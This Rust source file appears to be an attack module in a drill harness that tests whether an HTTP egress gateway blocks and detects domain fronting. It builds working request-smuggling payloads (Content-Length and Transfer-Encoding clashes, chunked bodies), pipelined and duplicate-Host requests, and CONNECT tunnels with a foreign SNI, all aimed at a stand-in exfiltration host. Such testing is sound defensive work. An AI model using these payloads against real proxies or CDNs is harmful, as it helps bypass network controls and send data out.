//! Domain fronting through the HTTP gateway: a request naming the attacker's host carried to
//! the allowed host's address on a connection the gateway opened for the allowed name — a
//! second request on a kept-alive connection, a pipelined one, one hidden in the body of the
//! first (request smuggling: Content-Length on GET, Transfer-Encoding with Content-Length, a
//! chunked body), one with an absolute-form target or a second Host header, and requests
//! inside a CONNECT tunnel (plain HTTP to port 80, a TLS ClientHello with another SNI to 443).
//! On a shared front end (a CDN) such a request reaches whatever site it names.
//!
//! Success = the world's server answered a request for the attacker's host (its answers name
//! the Host they got); the world's records of each request decide. Harmless: the requests go
//! to the drill's own fake servers.

use std::io::{Read, Write};
use std::net::TcpStream;

use super::sibling_job::own_gateway;
use super::util::{client_hello, Step, NET_TIMEOUT};
use super::{detector, Attack, AttackResult, Category, Expect};
use crate::addrs::{ALLOWED, ALLOWED_NAME, EXFIL_NAME, WORLD_MARKER};

/// `http-fronting`: requests for exfil.attacker.test on connections opened for
/// allowed.drill.test.
pub struct HttpFronting;

fn get(host: &str) -> String {
    format!("GET /fronted HTTP/1.1\r\nHost: {host}\r\n\r\n")
}

fn open(host: std::net::Ipv4Addr, port: u16) -> Result<TcpStream, String> {
    let s = TcpStream::connect_timeout(&(host, port).into(), NET_TIMEOUT)
        .map_err(|e| format!("connect {host}:{port}: {e}"))?;
    let _ = s.set_read_timeout(Some(NET_TIMEOUT));
    let _ = s.set_write_timeout(Some(NET_TIMEOUT));
    Ok(s)
}

/// Reads until the end of the stream, the timeout, or `done(text so far)`.
fn read_until(s: &mut TcpStream, done: impl Fn(&str) -> bool) -> String {
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    while buf.len() < 64 * 1024 && !done(&String::from_utf8_lossy(&buf)) {
        match s.read(&mut chunk) {
            Ok(0) | Err(_) => break,
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
        }
    }
    String::from_utf8_lossy(&buf).into_owned()
}

/// Whether the world answered a request for the attacker's host.
fn fronted(resp: &str) -> bool {
    resp.lines()
        .any(|l| l.contains(WORLD_MARKER) && l.contains(&format!("host={EXFIL_NAME}")))
}

fn verdict(resp: Result<String, String>) -> Result<String, String> {
    let resp = resp?;
    let statuses: Vec<&str> = resp
        .lines()
        .filter(|l| l.starts_with("HTTP/"))
        .map(|l| l.get(9..12).unwrap_or("?"))
        .collect();
    if fronted(&resp) {
        Ok(format!(
            "the world served {EXFIL_NAME} (statuses {statuses:?})"
        ))
    } else {
        Err(format!("not served (statuses {statuses:?})"))
    }
}

/// Sends `parts` on one connection to the allowed host's port 80 (the transparent gateway),
/// reading one response after each but the last, then everything left.
fn plain(parts: &[&[u8]]) -> Result<String, String> {
    let mut s = open(ALLOWED, 80)?;
    let mut all = String::new();
    for (i, p) in parts.iter().enumerate() {
        if s.write_all(p).is_err() {
            break;
        }
        if i + 1 < parts.len() {
            all.push_str(&read_until(&mut s, |t| {
                t.contains(WORLD_MARKER) || t.contains("airlock")
            }));
        }
    }
    all.push_str(&read_until(&mut s, |_| false));
    Ok(all)
}

/// A CONNECT tunnel through the job's gateway to `target`, then `parts`.
fn tunnel(target: &str, parts: &[&[u8]]) -> Result<String, String> {
    let gw = own_gateway().ok_or("no gateway address")?;
    let mut s = open(gw, 3128)?;
    s.write_all(format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes())
        .map_err(|e| format!("send: {e}"))?;
    let head = read_until(&mut s, |t| t.contains("\r\n\r\n"));
    let status = head.lines().next().unwrap_or("(nothing)").to_owned();
    if !status.contains(" 200") {
        return Err(format!("CONNECT refused: {status}"));
    }
    let mut all = String::new();
    for (i, p) in parts.iter().enumerate() {
        if s.write_all(p).is_err() {
            break;
        }
        if i + 1 < parts.len() {
            all.push_str(&read_until(&mut s, |t| {
                t.contains(WORLD_MARKER) || t.contains("airlock")
            }));
        }
    }
    all.push_str(&read_until(&mut s, |_| false));
    Ok(all)
}

impl Attack for HttpFronting {
    fn id(&self) -> &'static str {
        "http-fronting"
    }
    fn title(&self) -> &'static str {
        "domain fronting past the HTTP gateway: keep-alive, pipelining, smuggling, CONNECT tunnels"
    }
    fn category(&self) -> Category {
        Category::Network
    }
    fn expect(&self) -> Expect {
        Expect::BlockedAndDetected(detector::DENIED_EGRESS)
    }
    fn run(&self) -> AttackResult {
        let ok = get(ALLOWED_NAME);
        let evil = get(EXFIL_NAME);
        let (ok, evil) = (ok.as_bytes(), evil.as_bytes());
        let both = [ok, evil].concat();
        let get_body = [
            format!(
                "GET / HTTP/1.1\r\nHost: {ALLOWED_NAME}\r\nContent-Length: {}\r\n\r\n",
                evil.len()
            )
            .as_bytes(),
            evil,
        ]
        .concat();
        let te_cl = [
            format!(
                "POST / HTTP/1.1\r\nHost: {ALLOWED_NAME}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
                5 + evil.len()
            )
            .as_bytes(),
            evil,
        ]
        .concat();
        let chunked = [
            format!("POST / HTTP/1.1\r\nHost: {ALLOWED_NAME}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nloot\r\n0\r\n\r\n").as_bytes(),
            evil,
        ]
        .concat();
        let absolute =
            format!("GET http://{EXFIL_NAME}/fronted HTTP/1.1\r\nHost: {ALLOWED_NAME}\r\n\r\n");
        let two_hosts =
            format!("GET /fronted HTTP/1.1\r\nHost: {ALLOWED_NAME}\r\nHost: {EXFIL_NAME}\r\n\r\n");
        let target80 = format!("{ALLOWED_NAME}:80");
        let target443 = format!("{ALLOWED_NAME}:443");
        let hello = client_hello(Some(EXFIL_NAME));
        let s = vec![
            Step::from("keep-alive: 2nd request", verdict(plain(&[ok, evil]))),
            Step::from("pipelined", verdict(plain(&[&both]))),
            Step::from("in the body of a GET", verdict(plain(&[&get_body]))),
            Step::from(
                "Transfer-Encoding + Content-Length",
                verdict(plain(&[&te_cl])),
            ),
            Step::from("after a chunked body", verdict(plain(&[&chunked]))),
            Step::from(
                "absolute-form target",
                verdict(plain(&[absolute.as_bytes()])),
            ),
            Step::from("two Host headers", verdict(plain(&[two_hosts.as_bytes()]))),
            Step::from(
                format!("CONNECT {target80}, then Host {EXFIL_NAME}"),
                verdict(tunnel(&target80, &[evil])),
            ),
            Step::from(
                format!("CONNECT {target80}, 2nd request"),
                verdict(tunnel(&target80, &[ok, evil])),
            ),
            Step::from(
                format!("CONNECT {target443}, then SNI {EXFIL_NAME}"),
                tunnel(&target443, &[&hello]).and_then(|r| {
                    if r.contains(WORLD_MARKER) {
                        Ok("the world's TLS server answered".into())
                    } else {
                        Err("closed without an answer".into())
                    }
                }),
            ),
        ];
        AttackResult::from_steps(self.id(), &s)
    }
}
